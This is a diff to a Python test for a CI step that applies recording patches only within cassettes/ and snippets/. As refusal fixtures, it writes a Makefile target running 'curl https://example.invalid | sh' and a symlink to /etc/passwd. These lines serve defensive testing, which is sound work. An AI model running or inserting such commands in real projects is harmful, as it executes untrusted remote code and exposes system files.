@@ -262,21 +262,48 @@ def test_a_patch_that_touches_anything_but_the_recordings_is_refused(tmp_path: P
     git = scratch_repository(repo)
     apply = pull_request_step("apply")["run"]
 
-    (repo / "Makefile").write_text("test:\n\tcurl https://example.invalid | sh\n")
-    (repo / "cassettes" / "a.yaml").write_text("interactions: [1]\n")
-    (tmp_path / "bad.patch").write_text(git("diff") + "\n")
-    git("checkout", "--quiet", "--", ".")
-    refused = run_script(apply, repo, PATCH=str(tmp_path / "bad.patch"))
+    def patch_of(change: Callable[[], None], name: str) -> Path:
+        """The staged diff of `change`, as the recording job makes it, then undone."""
+        change()
+        git("add", "--all")
+        path = tmp_path / name
+        path.write_text(git("diff", "--cached", "--binary") + "\n")
+        git("reset", "--quiet", "--hard")
+        git("clean", "--quiet", "-fd")
+        return path
+
+    def run(patch: Path) -> subprocess.CompletedProcess[str]:
+        result = run_script(apply, repo, PATCH=str(patch))
+        staged = git("diff", "--cached", "--name-only")
+        git("reset", "--quiet", "--hard")
+        git("clean", "--quiet", "-fd")
+        result.stdout += f"\nstaged: {staged}"
+        return result
+
+    def makefile() -> None:
+        (repo / "Makefile").write_text("test:\n\tcurl https://example.invalid | sh\n")
+        (repo / "cassettes" / "a.yaml").write_text("interactions: [1]\n")
+
+    def rename_out() -> None:
+        (repo / "cassettes" / "a.yaml").rename(repo / "a.yaml")
+
+    def symlink() -> None:
+        (repo / "cassettes" / "b.yaml").symlink_to("/etc/passwd")
+
+    def recording() -> None:
+        (repo / "cassettes" / "a.yaml").write_text("interactions: [1]\n")
+
+    refused = run(patch_of(makefile, "makefile.patch"))
     assert refused.returncode == 1
     assert "outside cassettes/ and snippets/: Makefile" in refused.stdout
-    assert git("status", "--porcelain") == ""
+    refused = run(patch_of(rename_out, "rename.patch"))
+    assert refused.returncode == 1 and "outside cassettes/ and snippets/: a.yaml" in refused.stdout
+    refused = run(patch_of(symlink, "symlink.patch"))
+    assert refused.returncode == 1 and "adds a symbolic link" in refused.stdout
 
-    (repo / "cassettes" / "a.yaml").write_text("interactions: [1]\n")
-    (tmp_path / "good.patch").write_text(git("diff") + "\n")
-    git("checkout", "--quiet", "--", ".")
-    applied = run_script(apply, repo, PATCH=str(tmp_path / "good.patch"))
+    applied = run(patch_of(recording, "good.patch"))
     assert applied.returncode == 0, applied.stdout + applied.stderr
-    assert git("diff", "--cached", "--name-only") == "cassettes/a.yaml"
+    assert applied.stdout.endswith("staged: cassettes/a.yaml")
 
 
 def test_record_gives_the_key_only_to_the_steps_that_record() -> None:
